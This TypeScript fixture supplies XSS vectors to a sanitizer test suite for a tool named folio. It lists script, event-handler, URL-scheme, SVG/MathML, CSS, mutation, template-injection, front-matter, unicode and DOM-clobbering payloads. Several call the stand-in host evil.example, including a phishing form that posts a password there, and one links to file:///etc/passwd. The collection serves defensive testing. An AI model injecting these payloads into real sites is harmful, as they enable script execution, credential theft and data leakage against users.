// Hostile markup for the XSS suite (test/xss.test.ts), written for folio: each vector is placed in a
// scraped page of its own, in the body as raw HTML and, as text, in the headline, the metadata
// (author, tag, section, site, source), an image caption and the related-articles list. Vectors
// with a `url` also use it as the page's canonical address, an image address and a related link.
// Every payload either calls alert() or asks evil.example for something: the browser half of the
// suite fails on a dialog or on any request that leaves 127.0.0.1.

export interface Vector {
  /** What the vector tries, in a few words (failures name it). */
  name: string;
  /** Markup placed raw in the article body. */
  html: string;
  /** A hostile address, used where the page gives addresses (canonical, image, related link). */
  url?: string;
}

export type VectorKind =
  | 'script'
  | 'event-handler'
  | 'url-scheme'
  | 'element'
  | 'svg-mathml'
  | 'css'
  | 'mutation'
  | 'markup-as-text'
  | 'template'
  | 'front-matter'
  | 'unicode'
  | 'clobbering';

const link = (href: string, text = 'read more'): string => `<a href="${href}">${text}</a>`;

export const VECTORS: Record<VectorKind, Vector[]> = {
  script: [
    { name: 'plain script', html: '<script>alert(1)</script>' },
    { name: 'upper-case script', html: '<SCRIPT>alert(1)</SCRIPT>' },
    { name: 'external script', html: '<script src="https://evil.example/x.js"></script>' },
    { name: 'script with junk after the name', html: '<script/xss src="https://evil.example/x.js"></script>' },
    { name: 'script split by a nested script', html: '<scr<script>ipt>alert(1)</scr</script>ipt>' },
    { name: 'module script', html: '<script type="module">alert(1)</script>' },
    { name: 'template script holding markup', html: '<script type="text/template"><p>Shipped body</p><img src="x" onerror="alert(1)"><p onclick="alert(1)">more</p></script>' },
    { name: 'JSON-LD that closes its script', html: '<script type="application/ld+json">{"@type":"NewsArticle","headline":"</script><script>alert(1)</script>"}</script>' },
    { name: 'script in an HTML comment dance', html: '<script>/*<!--*/alert(1)//--></script>' },
    { name: 'script inside noscript', html: '<noscript><script>alert(1)</script></noscript>' },
    { name: 'script inside svg', html: '<svg><script>alert(1)</script></svg>' },
    { name: 'document.write of a tracker', html: '<script>document.write(\'<img src="https://evil.example/w.png">\')</script>' },
    { name: 'script with a data: source', html: '<script src="data:text/javascript,alert(1)"></script>' },
  ],
  'event-handler': [
    { name: 'img onerror', html: '<img src="x" onerror="alert(1)">' },
    { name: 'unquoted onerror', html: '<img src=x onerror=alert(1)//>' },
    { name: 'mixed-case handler', html: '<IMG SRC=x OnErRoR=alert(1)>' },
    { name: 'slashes between attributes', html: '<img/src="x"/onerror="alert(1)">' },
    { name: 'newline before the handler', html: '<img src="x"\nonerror="alert(1)">' },
    { name: 'body onload', html: '<body onload="alert(1)"><p>inner body</p></body>' },
    { name: 'svg onload', html: '<svg onload="alert(1)"></svg>' },
    { name: 'details ontoggle', html: '<details open ontoggle="alert(1)"><summary>More</summary>Hidden text</details>' },
    { name: 'autofocus input', html: '<input autofocus onfocus="alert(1)">' },
    { name: 'video onerror', html: '<video src="x" onerror="alert(1)"></video>' },
    { name: 'audio onerror', html: '<audio src="x" onerror="alert(1)"></audio>' },
    { name: 'marquee onstart', html: '<marquee onstart="alert(1)">Breaking</marquee>' },
    { name: 'full-page mouseover', html: '<div onmouseover="alert(1)" style="position:fixed;inset:0">Cover</div>' },
    { name: 'link onclick', html: '<a href="https://ok.example/" onclick="alert(1)">A fine link</a>' },
    { name: 'pointer event on a paragraph', html: '<p onpointerenter="alert(1)">Hover text</p>' },
    { name: 'table onmouseover', html: '<table background="x" onmouseover="alert(1)"><tr><td>Cell</td></tr></table>' },
    { name: 'select autofocus', html: '<select autofocus onfocus="alert(1)"><option>a</option></select>' },
    { name: 'textarea autofocus', html: '<textarea autofocus onfocus="alert(1)">text</textarea>' },
    { name: 'contenteditable onblur', html: '<x contenteditable onblur="alert(1)">lose focus</x>' },
    { name: 'style onload', html: '<style onload="alert(1)"></style>' },
    { name: 'iframe onload', html: '<iframe onload="alert(1)"></iframe>' },
    { name: 'handler on a heading', html: '<h2 onanimationstart="alert(1)" style="animation:spin 1s">Heading</h2>' },
  ],
  'url-scheme': [
    { name: 'javascript: link', html: link('javascript:alert(1)'), url: 'javascript:alert(1)' },
    { name: 'mixed-case javascript:', html: link('JaVaScRiPt:alert(1)'), url: 'JaVaScRiPt:alert(1)' },
    { name: 'leading spaces', html: link('  javascript:alert(1)'), url: '  javascript:alert(1)' },
    { name: 'tab entity inside the scheme', html: link('java&#x09;script:alert(1)'), url: 'java\tscript:alert(1)' },
    { name: 'newline entity inside the scheme', html: link('java&#x0A;script:alert(1)'), url: 'java\nscript:alert(1)' },
    { name: 'all decimal entities', html: link('&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)') },
    { name: 'hex entity and &colon;', html: link('&#x6A;avascript&colon;alert(1)') },
    { name: 'entity colon', html: link('javascript&#58;alert(1)') },
    { name: 'zero-padded entity', html: link('&#0000106avascript:alert(1)') },
    { name: 'control character before the scheme', html: link('\u0001javascript:alert(1)'), url: '\u0001javascript:alert(1)' },
    { name: 'vbscript:', html: link('vbscript:msgbox(1)'), url: 'vbscript:msgbox(1)' },
    { name: 'data:text/html base64', html: link('data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='), url: 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==' },
    { name: 'data:text/html plain', html: link('data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;'), url: 'data:text/html,<script>alert(1)</script>' },
    { name: 'upper-case DATA:', html: link('DATA:text/html,&lt;svg onload=alert(1)&gt;'), url: 'DATA:text/html,<svg onload=alert(1)>' },
    { name: 'javascript: image', html: '<img src="javascript:alert(1)" alt="pic">' },
    { name: 'srcset with javascript:', html: '<img src="https://img.hostile.example/ok.png" srcset="javascript:alert(1) 1x, https://evil.example/s.png 2x" alt="set">' },
    { name: 'video poster', html: '<video poster="javascript:alert(1)" src="https://evil.example/v.mp4"></video>' },
    { name: 'form action', html: '<form action="javascript:alert(1)"><button>Go</button></form>' },
    { name: 'button formaction', html: '<button formaction="javascript:alert(1)">Go</button>' },
    { name: 'object data', html: '<object data="javascript:alert(1)"></object>' },
    { name: 'embed src', html: '<embed src="javascript:alert(1)">' },
    { name: 'link ping', html: '<a href="https://ok.example/" ping="https://evil.example/ping">pinged</a>' },
    { name: 'javascript: with a fake URL', html: link('javascript://https://ok.example/%0aalert(1)'), url: 'javascript://https://ok.example/%0aalert(1)' },
    { name: 'entity inside the scheme name', html: link('jav&#x61;script:alert(1)') },
    { name: 'iframe data: document', html: '<iframe src="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>' },
    { name: 'file: address', html: link('file:///etc/passwd'), url: 'file:///etc/passwd' },
    { name: 'area href', html: '<map name="m"><area shape="rect" coords="0,0,10,10" href="javascript:alert(1)"></map>' },
    { name: 'xlink:href on svg a', html: '<svg><a xlink:href="javascript:alert(1)"><text x="5" y="15">svg link</text></a></svg>' },
  ],
  element: [
    { name: 'base href', html: '<base href="https://evil.example/">' },
    { name: 'meta refresh to javascript:', html: '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">' },
    { name: 'meta refresh away', html: '<meta http-equiv="refresh" content="0;url=https://evil.example/">' },
    { name: 'iframe', html: '<iframe src="https://evil.example/"></iframe>' },
    { name: 'iframe srcdoc', html: '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>' },
    { name: 'frame in frameset', html: '<frameset><frame src="javascript:alert(1)"></frameset>' },
    { name: 'flash object', html: '<object data="https://evil.example/x.swf" type="application/x-shockwave-flash"><param name="movie" value="https://evil.example/x.swf"></object>' },
    { name: 'embed', html: '<embed src="https://evil.example/x.swf">' },
    { name: 'applet', html: '<applet code="X" codebase="https://evil.example/"></applet>' },
    { name: 'phishing form', html: '<form action="https://evil.example/steal" method="post"><input name="password" type="password"><button>Log in</button></form>' },
    { name: 'external stylesheet', html: '<link rel="stylesheet" href="https://evil.example/x.css">' },
    { name: 'prefetch link', html: '<link rel="prefetch" href="https://evil.example/p">' },
    { name: 'portal', html: '<portal src="https://evil.example/"></portal>' },
    { name: 'template holding a handler', html: '<template><img src="x" onerror="alert(1)"></template>' },
    { name: 'open dialog with a form', html: '<dialog open><form method="dialog"><button>Close</button></form></dialog>' },
    { name: 'input image', html: '<input type="image" src="https://evil.example/i.png">' },
  ],
  'svg-mathml': [
    { name: 'svg animate href', html: '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text x="5" y="15">animated</text></a></svg>' },
    { name: 'svg set onmouseover', html: '<svg><set attributeName="onmouseover" to="alert(1)"/></svg>' },
    { name: 'svg use data:', html: '<svg><use href="data:image/svg+xml,&lt;svg id=\'x\' xmlns=\'http://www.w3.org/2000/svg\'&gt;&lt;image href=\'1\' onerror=\'alert(1)\'/&gt;&lt;/svg&gt;#x"/></svg>' },
    { name: 'svg foreignObject iframe', html: '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>' },
    { name: 'svg image from elsewhere', html: '<svg><image href="https://evil.example/i.png"/></svg>' },
    { name: 'MathML href', html: '<math href="javascript:alert(1)">CLICK</math>' },
    { name: 'MathML mglyph style confusion', html: '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>' },
    { name: 'svg style breakout', html: '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">' },
    { name: 'MathML xlink:href', html: '<math><mi xlink:href="javascript:alert(1)">x</mi></math>' },
    { name: 'svg style import', html: '<svg><style>@import url(https://evil.example/x.css)</style></svg>' },
    { name: 'svg handler element', html: '<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">alert(1)</handler></svg>' },
    { name: 'maction statusline', html: '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">click</maction></math>' },
  ],
  css: [
    { name: 'style url(javascript:)', html: '<div style="background:url(javascript:alert(1))">Styled</div>' },
    { name: 'tracking background', html: '<div style="background-image:url(\'https://evil.example/track.png\')">Tracked</div>' },
    { name: 'expression()', html: '<div style="width:expression(alert(1))">Old IE</div>' },
    { name: 'behavior url', html: '<div style="behavior:url(https://evil.example/x.htc)">Behaviour</div>' },
    { name: '-moz-binding', html: '<div style="-moz-binding:url(https://evil.example/x.xml#x)">Binding</div>' },
    { name: 'style element url()', html: '<style>body{background:url(https://evil.example/bg.png)}</style>' },
    { name: 'style element @import', html: '<style>@import \'https://evil.example/x.css\';</style>' },
    { name: 'CSS escapes in url', html: '<p style="bac\\kground:u\\rl(https://evil.example/e.png)">Escaped</p>' },
    { name: 'entity inside url', html: '<p style="background:&#x75;rl(https://evil.example/e2.png)">Entity</p>' },
    { name: 'click-jacking overlay', html: '<span style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999">Overlay</span>' },
    { name: 'data: stylesheet', html: '<link rel="stylesheet" href="data:text/css,body{background:url(https://evil.example/d.png)}">' },
    { name: 'font from elsewhere', html: '<style>@font-face{font-family:x;src:url(https://evil.example/f.woff)}</style>' },
  ],
  mutation: [
    { name: 'noscript title breakout', html: '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>' },
    { name: 'comment breakout', html: '<!--<img src="--><img src=x onerror=alert(1)//">' },
    { name: 'title element in body', html: '<title><img src=x onerror=alert(1)></title>' },
    { name: 'textarea holding a script', html: '<textarea><script>alert(1)</script></textarea>' },
    { name: 'xmp', html: '<xmp><img src=x onerror=alert(1)></xmp>' },
    { name: 'iframe fallback content', html: '<iframe><img src=x onerror=alert(1)></iframe>' },
    { name: 'noembed', html: '<noembed><img src=x onerror=alert(1)></noembed>' },
    { name: 'CDATA in HTML', html: '<![CDATA[<script>alert(1)</script>]]>' },
    { name: 'processing instruction', html: '<?xml-stylesheet href="javascript:alert(1)"?>' },
    { name: 'alt attribute breakout', html: '<img alt="&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;" src="https://img.hostile.example/a.png">' },
    { name: 'title attribute breakout', html: '<img title="&quot; onerror=&quot;alert(1)" src="https://img.hostile.example/b.png">' },
    { name: 'link title breakout', html: '<a title="&quot;&gt;&lt;svg onload=alert(1)&gt;" href="https://ok.example/">titled</a>' },
    { name: 'template in select', html: '<select><template><img src=x onerror=alert(1)></template></select>' },
  ],
  'markup-as-text': [
    { name: 'escaped script as text', html: '<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>' },
    { name: 'escaped img as text', html: '<p>&lt;img src=x onerror=alert(1)&gt;</p>' },
    { name: 'double-escaped markup', html: '<p>&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;</p>' },
    { name: 'Markdown link syntax as text', html: '<p>[click me](javascript:alert(1))</p>' },
    { name: 'Markdown image syntax as text', html: '<p>![x](javascript:alert(1))</p>' },
    { name: 'autolink syntax as text', html: '<p>&lt;javascript:alert(1)&gt;</p>' },
    { name: 'reference definition as text', html: '<p>[story][a]</p><p>[a]: javascript:alert(1)</p>' },
    { name: 'markup in inline code', html: '<p><code>&lt;script&gt;alert(1)&lt;/script&gt;</code></p>' },
    { name: 'markup in a code block', html: '<pre><code>&lt;img src=x onerror=alert(1)&gt;\n&lt;/pre&gt;&lt;script&gt;alert(1)&lt;/script&gt;</code></pre>' },
    { name: 'full-width brackets', html: '<p>＜script＞alert(1)＜/script＞</p>' },
    { name: 'UTF-7 markup', html: '<p>+ADw-script+AD4-alert(1)+ADw-/script+AD4-</p>' },
    { name: 'front-matter fence in the body', html: '<p>---</p><p>title: pwned</p><p>slug: ../../pwned</p><p>---</p>' },
    { name: 'HTML comment as text', html: '<p>&lt;!-- &lt;img src=x onerror=alert(1)&gt; --&gt;</p>' },
  ],
  template: [
    { name: 'Liquid output', html: '<p>{{ 7*7 }} and {{ site.title }}</p>' },
    { name: 'Liquid output, no spaces', html: '<p>{{7*7}}</p>' },
    { name: 'Liquid include tag', html: '<p>{% include \'layout\' %}</p>' },
    { name: 'Liquid render tag', html: '<p>{%- render \'_meta\' -%}</p>' },
    { name: 'Liquid raw block', html: '<p>{% raw %}{{ t.home }}{% endraw %}</p>' },
    { name: 'Liquid filter chain', html: '<p>{{ \'x\' | append: \'y\' | upcase }}</p>' },
    { name: 'Liquid assign and capture', html: '<p>{% assign x = 7 %}{% capture y %}z{% endcapture %}</p>' },
    { name: 'ERB / EJS', html: '<p>&lt;%= 7*7 %&gt; and &lt;%- include(\'x\') %&gt;</p>' },
    { name: 'JavaScript template literal', html: '<p>${7*7} and ${alert(1)}</p>' },
    { name: 'Ruby / Pug interpolation', html: '<p>#{7*7}</p>' },
    { name: 'AngularJS sandbox escape', html: '<p>{{constructor.constructor(\'alert(1)\')()}}</p>' },
    { name: 'Vue / Knockout style', html: '<p>[[7*7]] {{{ triple }}}</p>' },
    { name: 'Razor', html: '<p>@{7*7} @(7*7)</p>' },
  ],
  'front-matter': [
    { name: 'YAML document break', html: '<p>"\n---\nslug: ../../pwned\n---</p>' },
    { name: 'YAML function tag', html: '<p>!!js/function "function(){alert(1)}"</p>' },
    { name: 'YAML anchor and merge', html: '<p>&amp;a [x] *a &lt;&lt;: *a</p>' },
    { name: 'YAML comment and quote', html: '<p>" # comment \' \\" \\\\</p>' },
    { name: 'colon and newline in a value', html: '<p>title: x\r\ntags: [evil]</p>' },
  ],
  unicode: [
    { name: 'right-to-left override', html: '<p>report\u202Efdp.exe</p>' },
    { name: 'zero-width space in the scheme', html: link('java\u200Bscript:alert(1)'), url: 'java\u200Bscript:alert(1)' },
    { name: 'line separators', html: '<p>one\u2028two\u2029three</p>' },
    { name: 'script end in text', html: '<p>&lt;/script&gt;&lt;script&gt;alert(1)&lt;/script&gt;</p>' },
    { name: 'comment opener in text', html: '<p>&lt;!--&lt;script&gt;alert(1)//--&gt;</p>' },
    { name: 'NUL character', html: '<p>nul\u0000here &#0; there</p>' },
    { name: 'non-characters and lone surrogates', html: '<p>odd \uFFFE \uFFFF &#xD800; end</p>' },
  ],
  clobbering: [
    { name: 'id of the search box', html: '<a id="site-search-input" name="site-search-input" href="https://ok.example/">clobber</a>' },
    { name: 'name shadowing document API', html: '<img name="getElementById" src="https://img.hostile.example/c.png">' },
    { name: 'form with the search class', html: '<form class="site-search" data-root="https://evil.example/"><input class="site-search-input"></form>' },
    { name: 'id of the related heading', html: '<h2 id="related-heading">Fake heading</h2>' },
    { name: 'location clobbering', html: '<a id="location" href="javascript:alert(1)">loc</a>' },
    { name: 'link opening a window', html: '<a href="https://evil.example/tab" target="_blank" rel="opener">new tab</a>' },
  ],
};

export interface NumberedVector extends Vector {
  id: number;
  kind: VectorKind;
}

/** Every vector with a stable number (1-based, in table order) and its kind. */
export const ALL_VECTORS: NumberedVector[] = Object.entries(VECTORS).flatMap(([kind, vectors]) =>
  vectors.map((vector) => ({ ...vector, kind: kind as VectorKind })),
).map((vector, index) => ({ ...vector, id: index + 1 }));
